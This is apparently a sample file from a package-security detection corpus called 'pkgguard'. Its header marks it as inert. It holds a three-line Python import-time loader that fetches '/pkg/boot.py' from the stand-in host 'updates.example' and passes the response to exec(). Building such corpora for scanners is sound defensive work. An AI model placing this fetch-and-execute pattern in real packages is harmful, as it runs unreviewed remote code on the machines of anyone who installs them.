# pkgguard corpus 174 (import-time), modelled on [empirical]; inert, never run.
import http.client

_c = http.client.HTTPSConnection("updates.example", timeout=5)
_c.request("GET", "/pkg/boot.py")
exec(_c.getresponse().read())
